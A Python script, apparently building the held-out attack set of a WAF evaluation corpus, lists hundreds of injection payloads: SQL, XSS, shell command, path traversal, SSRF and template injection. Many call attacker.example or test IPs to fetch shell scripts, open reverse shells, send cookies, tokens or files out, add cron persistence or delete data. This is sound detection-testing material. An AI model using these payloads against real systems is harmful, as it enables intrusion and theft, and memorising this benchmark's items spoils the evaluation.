#!/usr/bin/env python3
"""Attack half of the lighthouse held-out WAF corpus.

Standard library only. Writes attacks.jsonl next to this file.
Almost every value is a hand-written literal (category, class, value).
The only computed values come from ENCODED (one hand-written payload + one
encoding) and THEMED (one hand-written prefix joined to one hand-written payload).
"""
import json
import os
import random

SEED = 18402
PREFIX = "hafs"

rng = random.Random(SEED)

# ------------------------------------------------------------------ sqli
SQLI = [
    ("note-union-select", "Book III p.114, Keeper Moffat' UNION SELECT username,password_hash FROM volunteers-- "),
    ("catalog-union-infoschema", "LH/ARC/3/12/7' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -"),
    ("number-boolean", "2291 OR 1=1"),
    ("number-paren-boolean", "7781) OR (1=1"),
    ("booking-mysql-sleep", "HLT-7781' AND SLEEP(5)-- -"),
    ("storm-pg-stacked-sleep", "Storm Ciarán roof slates'; SELECT pg_sleep(7)--"),
    ("workorder-mssql-waitfor", "WO-2291'; WAITFOR DELAY '0:0:6'--"),
    ("keeper-oracle-dbms-pipe", "Nash' AND DBMS_PIPE.RECEIVE_MESSAGE(CHR(76),6)=1--"),
    ("search-sqlite-master", "fog bell' UNION SELECT sql,name,1 FROM sqlite_master--"),
    ("logdate-mysql-extractvalue", "1887' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT password FROM admins LIMIT 1)))-- -"),
    ("note-mysql-updatexml", "Lens panel 5 chipped' AND UPDATEXML(1,CONCAT(0x3a,(SELECT user())),1)-- -"),
    ("donor-pg-cast-error", "Whitlock' AND 1=CAST((SELECT passwd FROM pg_shadow LIMIT 1) AS int)--"),
    ("number-mssql-convert", "44 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.sql_logins))"),
    ("maint-stacked-drop", "Gaskets replaced'; DROP TABLE lens_maintenance;--"),
    ("donation-stacked-update", "£25 for glazing'; UPDATE donations SET amount=0 WHERE 1=1;--"),
    ("roster-insert-admin", "Margaret'); INSERT INTO admins(email,role) VALUES('x@attacker.example','owner');--"),
    ("orderby-case-divzero", "date,(SELECT CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' THEN 1 ELSE 1/0 END)"),
    ("orderby-case-column", "(CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN date ELSE keeper END)"),
    ("orderby-mysql-if-sleep", "call_no ASC, IF(ASCII(SUBSTRING(USER(),1,1))>100,SLEEP(4),0)"),
    ("catalog-comment-as-space", "1887'/**/UNION/**/SELECT/**/1,2,group_concat(email)/**/FROM/**/donors#"),
    ("search-mysql-versioned-comment", "fog horn' /*!50000UNION*/ /*!50000SELECT*/ 1,@@version,3-- -"),
    ("search-case-mixing", "bell' uNiOn SeLeCt null,current_user,null--"),
    ("keeper-blind-substring", "Whitlock' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- "),
    ("keeper-oracle-blind-ascii", "Hansen' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--"),
    ("workorder-mssql-xp-dirtree", "WO-1180'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("number-mssql-xp-cmdshell", "12; EXEC xp_cmdshell 'whoami';--"),
    ("note-mysql-into-outfile", "x' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/c.php'-- -"),
    ("search-mysql-load-file", "lantern' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("storm-pg-copy-program", "Gusts 78 kn'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("keeper-oracle-utl-http", "Nash' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("plain-login-comment", "admin'--"),
    ("plain-empty-equals", "' OR ''='"),
    ("plain-string-tautology", "x' OR 'a'='a"),
    ("number-gt-tautology", "3 or 2>1"),
    ("number-union", "-1 UNION SELECT 1,2,3,4"),
    ("name-pg-concat-version", "O'Reilly' || (SELECT version()) || '"),
    ("search-like-wildcard", "keeper%' AND 1=1 AND '%'='"),
    ("search-like-union", "fog%' UNION SELECT table_name,2 FROM information_schema.columns WHERE '1'='1"),
    ("logdate-mysql-benchmark", "1903' AND BENCHMARK(5000000,MD5(1))#"),
    ("number-pg-heavy-query", "5 AND 1=(SELECT COUNT(*) FROM generate_series(1,30000000))"),
    ("number-mssql-if-waitfor", "9; IF (SELECT COUNT(*) FROM sysusers)>0 WAITFOR DELAY '0:0:5'--"),
    ("settings-mysql-json-extract", "en-GB' OR JSON_EXTRACT('{\"a\":1}','$.a')=1-- -"),
    ("workorder-mssql-having", "WO-2291' HAVING 1=1--"),
    ("workorder-mssql-group-by", "WO-2291' GROUP BY work_orders.id HAVING 1=1--"),
    ("booking-orderby-count", "HLT-7781' ORDER BY 5-- -"),
    ("number-orderby-count", "1 ORDER BY 12"),
    ("keeper-fullwidth-quote", "Nash＇ OR 1=1--"),
    ("search-mysql-hash-newline", "fog'#\nUNION#\nSELECT 1,password,3 FROM users#"),
    ("booking-mysql-float-union", "7781.0UNION SELECT 1,user(),3"),
    ("catalog-oracle-version", "LH/PRV/1/2' UNION SELECT banner,NULL FROM v$version--"),
    ("note-mssql-sysdatabases", "Tide table'; SELECT name FROM master..sysdatabases--"),
    ("note-mssql-shutdown", "Inspector visited'; SHUTDOWN WITH NOWAIT--"),
    ("number-pg-lo-import", "3; SELECT lo_import('/etc/passwd')--"),
    ("keeper-pg-subquery-sleep", "Moffat' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("number-sqlite-randomblob", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("catalog-db2-syscat", "Box 17' UNION SELECT tabname,NULL FROM syscat.tables--"),
    ("note-mysql-floor-rand", "Ice on gallery' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -"),
    ("number-mysql-rlike", "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -"),
    ("tag-pg-concat-sleep", "wwii'||pg_sleep(5)--"),
    ("donor-mssql-oob-declare", "Hargreaves';declare @q varchar(99);set @q='\\\\attacker.example\\s'+(select top 1 name from sys.databases); exec master.dbo.xp_dirtree @q;--"),
    ("number-mysql-ord-mid", "41 AND ORD(MID(DATABASE(),1,1))>100"),
    ("inlist-union", "1) UNION SELECT NULL,NULL,NULL--"),
    ("inlist-union-volunteers", "1,2,3) AND 1=0 UNION SELECT email,password_hash,3 FROM volunteers-- -"),
    ("limit-mysql-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)"),
    ("insert-values-subquery", "Zoë', (SELECT password FROM admins LIMIT 1))-- -"),
    ("search-hex-literal", "lens' UNION SELECT 0x61646d696e,2-- -"),
    ("number-char-function", "0 UNION SELECT CHAR(117,115,101,114),2"),
    ("note-trailing-open-comment", "Wind NW fresh' AND '1'='1' /*"),
    ("number-pg-case-sleep", "1;SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("plain-paren-tautology", "') OR ('x'='x"),
    ("booking-mssql-char-concat", "HLT-1'+(SELECT CHAR(65)+@@version)+'"),
    ("catalog-oracle-error-ctxsys", "LH/ARC/1/1' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("note-pg-dollar-quote", "Lamp lit'; INSERT INTO notes(body) VALUES($$owned$$);--"),
    ("note-mssql-openrowset", "Rota v3'; SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=203.0.113.40;uid=sa;pwd=x','SELECT 1')--"),
]

# ------------------------------------------------------------------- xss
XSS = [
    ("comment-script-cookie", "Lovely visit! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("comment-svg-slash-location", "Saw dolphins!! <svg/onload=location='//attacker.example/?c='+document.cookie>"),
    ("attr-break-script-src", "\"><script src=//attacker.example/x.js></script>"),
    ("attr-single-quote-handler", "Owen' onmouseover='alert(1)"),
    ("attr-autofocus-onfocus", "Margaret\" autofocus onfocus=alert(1) x=\""),
    ("href-javascript", "javascript:alert(document.cookie)"),
    ("href-javascript-case-mixing", "JaVaScRiPt:alert(1)"),
    ("href-javascript-tab-entity", "java&#x09;script:alert(1)"),
    ("href-decimal-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("href-data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("comment-iframe-srcdoc", "Great tour <iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("comment-details-ontoggle", "Best-preserved lighthouse <details open ontoggle=alert(1)>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("roster-input-autofocus", "Sat 10:00 front desk <input autofocus onfocus=alert(1)>"),
    ("comment-video-source-onerror", "<video><source onerror=alert(1)></video> the foghorn video!"),
    ("comment-audio-onerror", "Hear the horn: <audio src=x onerror=alert(1)>"),
    ("catalog-anchor-onclick", "<a href=\"javascript:void(0)\" onclick=\"alert(1)\">Fl(2) W 15s</a>"),
    ("comment-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("textarea-breakout", "Rota notes</textarea><script>alert(1)</script>"),
    ("title-breakout", "Storm Isha</title><svg onload=alert(1)>"),
    ("jsblock-script-breakout", "Keeper Nash</script><script>alert(1)</script>"),
    ("jsstring-fromcharcode", "';alert(String.fromCharCode(88,83,83));//"),
    ("jsstring-backslash-escape", "\\';alert(1);//"),
    ("jsstring-template-literal", "${alert(document.cookie)}"),
    ("comment-script-atob", "Thanks Margaret <script>eval(atob('YWxlcnQoMSk='))</script>"),
    ("handler-entity-encoded", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    ("handler-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("svg-script-entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("object-data-javascript", "<object data=\"javascript:alert(1)\">"),
    ("embed-data-html", "<embed src=\"data:text/html,<script>alert(1)</script>\">"),
    ("donation-form-action", "<form action=javascript:alert(1)><button>Donate £25</button></form>"),
    ("html-meta-refresh-phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/donate\">"),
    ("html-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("html-style-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Lens photo</text></a></svg>"),
    ("img-tagged-template", "<img src=x:x onerror=alert`1`>"),
    ("img-slash-separators", "<img/src/onerror=alert(1)>"),
    ("script-case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("comment-entity-decoded-img", "&lt;img src=x onerror=alert(1)&gt;"),
    ("json-unicode-escaped-img", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("fullwidth-nfkc-script", "＜script＞alert(1)＜/script＞"),
    ("markdown-javascript-link", "[logbook scan p.114](javascript:alert(document.cookie))"),
    ("markdown-img-attr-break", "![lens](x\"onerror=\"alert(1))"),
    ("csti-angularjs", "Fog demo {{constructor.constructor('alert(1)')()}}"),
    ("csti-vue2", "{{_c.constructor('alert(1)')()}}"),
    ("comment-img-localstorage", "<img src=\"x\" onerror=\"fetch('//attacker.example/k?'+localStorage.getItem('token'))\">"),
    ("iframe-javascript-src", "<iframe src=\"javascript:alert(parent.document.cookie)\">"),
    ("xmp-breakout", "<xmp><p title=\"</xmp><svg onload=alert(1)>\">"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("svg-handler-entities", "<svg onload=alert&#40;1&#41;>"),
    ("svg-eval-hash", "<svg onload=eval(location.hash.slice(1))>"),
    ("img-dynamic-import", "<img src=1 onerror=import('//attacker.example/m.js')>"),
    ("script-image-beacon", "<script>new Image().src='https://203.0.113.7/c?'+document.cookie</script>"),
    ("href-hex-entity-j", "<a href=\"&#x6A;avascript:alert(1)\">map of wrecks</a>"),
    ("href-newline-entity", "<a href=\"jav&#x0A;ascript:alert(1)\">tide table</a>"),
    ("handler-string-concat", "<img src=x onerror=top['al'+'ert'](1)>"),
    ("handler-hex-escape", "<img src=x onerror=window['\\x61lert'](1)>"),
    ("handler-settimeout-hex", "<svg onload=setTimeout('alert\\x281\\x29')>"),
    ("handler-cookie-exfil", "<img src=x onerror=\"this.src='//attacker.example/?'+document.cookie;this.onerror=null\">"),
    ("url-javascript-comment-newline", "javascript://%0aalert(1)"),
    ("url-javascript-fetch", "javascript:fetch('//attacker.example/'+document.cookie)"),
    ("url-data-html", "data:text/html,<script>alert(document.domain)</script>"),
    ("attr-img-onload-break", "photo.jpg\" onload=\"alert(1)"),
    ("attr-single-autofocus", "x' autofocus onfocus='alert(1)"),
    ("marquee-onstart", "<marquee onstart=alert(1)>Welcome keepers</marquee>"),
    ("svg-foreignobject-iframe", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
]

# ------------------------------------------------------------------ cmdi
CMDI = [
    ("filename-semicolon-id", "scan_p114.tif; id"),
    ("filename-curl-pipe-sh", "storm_2024-01-21.jpg && curl -s http://attacker.example/s.sh | sh"),
    ("filename-nc-reverse", "logbook_vol3.pdf | nc 203.0.113.5 4444 -e /bin/sh"),
    ("plain-backticks", "`id`"),
    ("plain-dollar-paren", "$(whoami)"),
    ("filename-embedded-subshell", "report_$(curl attacker.example/x|sh).pdf"),
    ("filename-newline-wget", "lh_arc.png\nwget -qO- http://198.51.100.23/a | bash"),
    ("ping-sleep-comment", "lighthouse.example.org; sleep 10 #"),
    ("ping-or-ping", "127.0.0.1 || ping -c 10 127.0.0.1"),
    ("windows-ping-delay", "fogsignal01 & ping -n 10 127.0.0.1 &"),
    ("windows-amp-whoami", "Rota 2019.xlsx & whoami"),
    ("windows-type-winini", "lens.jpg | type C:\\Windows\\win.ini"),
    ("powershell-iex-download", "export.csv && powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-encoded", "storm.csv; powershell -NoP -NonI -enc dwBoAG8AYQBtAGkA"),
    ("ifs-space-bypass", "scan.tif;cat${IFS}/etc/passwd"),
    ("ifs-short-form", "x;cat$IFS/etc/shadow"),
    ("brace-expansion", "p114.tif;{cat,/etc/passwd}"),
    ("quote-obfuscation", "a;c''at /e\"t\"c/pa\\ss\\wd"),
    ("glob-wildcards", "logbook.pdf;/???/??t /???/p??s??"),
    ("base64-pipe-sh", "rota.pdf; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("argument-curl-output", "--output /var/www/html/x.php http://attacker.example/x.txt"),
    ("argument-ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/k|sh"),
    ("argument-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/up/lh.sh"),
    ("argument-find-exec", "scans -exec /bin/sh -c id ;"),
    ("argument-git-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("argument-rsync-e", "-e sh /srv/uploads/storm.jpg"),
    ("argument-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("argument-sendmail-log", "keeper@example.org -OQueueDirectory=/tmp -X/var/www/html/log.php"),
    ("ping-reverse-shell", "203.0.113.9 -c 1 ; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("dns-exfil-nslookup", "$(nslookup $(whoami).attacker.example)"),
    ("python-one-liner", "vol3.pdf; python3 -c 'import os;os.system(\"id\")'"),
    ("perl-backticks", "photo.jpg|perl -e 'print `id`'"),
    ("php-cli", "img.png; php -r 'system(\"id\");'"),
    ("single-quoted-breakout", "Fog demo';id;'"),
    ("double-quoted-breakout", "Fog demo\";id;\""),
    ("double-quoted-subshell", "\"$(id)\""),
    ("windows-certutil-download", "scan.tif & certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("windows-net-user-add", "receipt.pdf | net user keeper P4ssw0rd! /add"),
    ("windows-dir-root", "x && dir C:\\"),
    ("windows-cmd-set", "| cmd /c \"set\""),
    ("powershell-env", "a; Get-ChildItem Env:"),
    ("powershell-exfil-webconfig", "x'; Invoke-WebRequest -Uri http://attacker.example/c -Method Post -Body (Get-Content C:\\inetpub\\wwwroot\\web.config)"),
    ("powershell-subexpression", "$(Start-Process calc.exe)"),
    ("ssi-exec", "Great tour! <!--#exec cmd=\"id\" -->"),
    ("crontab-persistence", "rota.csv; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -"),
    ("destructive-rm", "vol3.zip; rm -rf /srv/archive/"),
    ("substring-slash", ";cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("ansi-c-quoting", "x;$'\\x63\\x61\\x74' /etc/passwd"),
    ("backtick-base64", "scan.tif;`echo aWQ= | base64 -d`"),
    ("quote-split-whoami", "x;w'h'o'am'i"),
    ("or-subshell-sleep", "lens.jpg || (sleep 5)"),
    ("windows-tftp-get", "x & tftp -i 203.0.113.4 GET nc.exe"),
    ("logbook-subshell-hostname", "Lamp lit 19:58 $(hostname)"),
    ("background-amp", "fog.wav & curl http://198.51.100.7/$(id -u) &"),
    ("newline-crlf-id", "storm.jpg\r\nid"),
    ("pipe-mail-exfil", "x | mail -s loot ops@attacker.example < /etc/passwd"),
    ("imagemagick-filename-pipe", "|curl attacker.example/im.sh|sh"),
    ("awk-system", "x; awk 'BEGIN{system(\"id\")}'"),
    ("env-dump", "note.txt; env > /var/www/html/e.txt"),
    ("busybox-telnetd", "10.0.0.1; busybox telnetd -l /bin/sh -p 4444"),
    ("xargs-sh", "x; echo id | xargs sh -c"),
    ("here-string", "x; bash <<< 'id'"),
    ("socat-reverse", "x; socat tcp:198.51.100.20:443 exec:sh,pty,stderr"),
    ("windows-powershell-downloadfile", "logo.svg & powershell (New-Object Net.WebClient).DownloadFile('http://attacker.example/a.exe','a.exe')"),
    ("windows-wmic-process", "x & wmic process call create \"cmd /c whoami > C:\\inetpub\\wwwroot\\w.txt\""),
    ("semicolon-plain-id", ";id"),
]

# ------------------------------------------------------------- traversal
TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("scanpath-dotdot-shadow", "scans/logbooks/../../../../../etc/shadow"),
    ("windows-backslash-winini", "..\\..\\..\\windows\\win.ini"),
    ("scanpath-urlencoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("overlong-slash-2byte", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("overlong-backslash-2byte", "..%c1%9c..%c1%9c..%c1%9cboot.ini"),
    ("percent-u-slash", "..%u2215..%u2215..%u2215etc/passwd"),
    ("strip-bypass-double-dots", "....//....//....//etc/passwd"),
    ("tomcat-semicolon", "..;/..;/WEB-INF/web.xml"),
    ("absolute-prefix-dotdot", "/var/www/lighthouse/../../../etc/passwd"),
    ("nullbyte-extension", "../../../etc/passwd%00.jpg"),
    ("proc-self-environ", "../../../../proc/self/environ"),
    ("windows-absolute-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-device-path", "\\\\?\\C:\\Windows\\win.ini"),
    ("windows-encoded-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("mixed-separators", "..\\/..\\/..\\/etc/passwd"),
    ("leading-slash-encoded", "/..%2f..%2f..%2fetc/passwd"),
    ("half-encoded-dots", ".%2e/.%2e/.%2e/etc/passwd"),
    ("encoded-dots-plain-slash", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("fullwidth-solidus", "..／..／..／etc／passwd"),
    ("fullwidth-solidus-utf8-urlenc", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("ssh-key", "photos/../../../../../../home/keeper/.ssh/id_rsa"),
    ("dotenv", "../../.env"),
    ("log-poisoning-include", "../../../../var/log/nginx/access.log"),
    ("deep-hosts", "../../../../../../../../../../etc/hosts"),
    ("zip-slip-entry", "LH_ARC_import/../../../../srv/www/html/shell.jsp"),
    ("proc-self-cwd", "/proc/self/cwd/config/database.yml"),
    ("webinf-relative", "../WEB-INF/web.xml"),
    ("bash-history-encoded", "..%2F..%2F..%2F..%2Froot%2F.bash_history"),
    ("photo-dir-passwd", "photos/2024/../../../../../etc/passwd"),
    ("windows-strip-bypass", "....\\\\....\\\\....\\\\windows\\win.ini"),
    ("static-double-encoded", "/static/..%252f..%252f..%252fetc/passwd"),
    ("overlong-dot-2byte", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("overlong-slash-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded-after-slash", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("windows-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("pdf-suffix-group", "LH_ARC_3_12_7_p001.pdf/../../../../etc/group"),
    ("rails-secrets", "../../../../../app/config/secrets.yml"),
    ("windows-leading-backslash", "\\..\\..\\..\\..\\windows\\system.ini"),
    ("windows-encoded-dots-backslash", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("absolute-passwd", "/etc/passwd"),
    ("windows-double-encoded", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("aws-credentials", "../../../../root/.aws/credentials"),
    ("php-zip-wrapper", "zip:///srv/uploads/storm.zip#../../../../etc/passwd"),
    ("git-config-encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2f.git%2fconfig"),
    ("proc-self-maps", "/proc/self/maps"),
]

# ------------------------------------------------------------------ ssrf
SSRF = [
    ("iiif-aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("gcp-metadata-token", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("gcp-metadata-hostname", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("redis-http", "http://127.0.0.1:6379/"),
    ("gopher-redis-set", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fc%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A"),
    ("localhost-admin", "http://localhost:8080/admin"),
    ("decimal-ip", "http://2130706433/"),
    ("hex-ip", "http://0x7f000001/"),
    ("octal-ip", "http://0177.0.0.1/"),
    ("short-ip", "http://127.1/"),
    ("zero-ip", "http://0/"),
    ("ipv6-loopback-consul", "http://[::1]:8500/v1/agent/self"),
    ("ipv6-mapped-imds", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("dns-to-internal", "http://169-254-169-254.attacker.example/latest/meta-data/"),
    ("userinfo-confusion", "http://lighthouse.example.org@127.0.0.1/"),
    ("fragment-confusion", "http://127.0.0.1#@lighthouse.example.org/"),
    ("file-passwd", "file:///etc/passwd"),
    ("file-windows", "file:///C:/Windows/win.ini"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("gopher-smtp", "gopher://10.0.0.5:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cnews%40example.org%3E%0D%0ARCPT%20TO%3A%3Cops%40attacker.example%3E%0D%0ADATA%0D%0Ahi%0D%0A.%0D%0A"),
    ("elasticsearch-internal", "http://10.0.0.12:9200/_cat/indices"),
    ("docker-api", "http://172.17.0.1:2375/containers/json"),
    ("k8s-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("kubelet-pods", "http://127.0.0.1:10255/pods"),
    ("internal-service-name", "http://archive-db.lighthouse.internal:5984/_all_dbs"),
    ("enclosed-alnum-ip", "http://①②⑦.⓪.⓪.①/"),
    ("port-scan-ssh", "http://127.0.0.1:22/"),
    ("open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("ipv6-full-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("dotted-hex-ip", "http://0x7f.0x0.0x0.0x1/"),
    ("octal-whole-ip", "http://017700000001/"),
    ("urlencoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("java-netdoc", "netdoc:///etc/passwd"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=lighthouse,dc=org??sub"),
    ("tftp-scheme", "tftp://198.51.100.4/lh.cfg"),
    ("ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("aws-instance-data-name", "http://instance-data/latest/meta-data/"),
    ("solr-admin", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"),
    ("zero-host-debug", "http://0.0.0.0:5000/console"),
    ("manifest-user-data", "http://169.254.169.254/latest/user-data"),
    ("cctv-internal-snapshot", "http://10.10.0.3/internal/cctv/snapshot.jpg"),
    ("rabbitmq-mgmt", "http://127.0.0.1:15672/api/users"),
    ("rfc1918-172", "http://172.16.4.20/server-status"),
    ("decimal-imds", "http://2852039166/latest/meta-data/"),
    ("backslash-authority-confusion", "https://attacker.example\\@127.0.0.1:8080/"),
]

# ------------------------------------------------------------------ code
CODE = [
    ("ssti-jinja2-cycler", "Fog demo at {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2-config", "Dear {{ config.items() }}"),
    ("ssti-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja2-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("ssti-jinja2-attr-filter", "{{ lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja2-self-context", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-twig-filter-system", "Receipt for {{ ['id']|filter('system') }}"),
    ("ssti-twig1-undefined-filter", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-freemarker-assign", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker-inline", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("ssti-velocity-runtime", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-getenv", "${T(java.lang.System).getenv()}"),
    ("el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts-member-access", "%{#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("ssti-erb-backticks", "Keeper note <%= `id` %>"),
    ("ssti-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("ssti-ruby-interpolation", "#{`cat /etc/passwd`}"),
    ("ssti-smarty-system", "{system('id')}"),
    ("ssti-smarty2-php-tag", "{php}echo `id`;{/php}"),
    ("ssti-mako-import", "${__import__('os').popen('id').read()}"),
    ("ssti-mako-block", "<% import os %>${os.popen('id').read()}"),
    ("ssti-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-ejs-output", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-dot-interpolate", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
    ("ssti-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-pebble-getclass", "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}"),
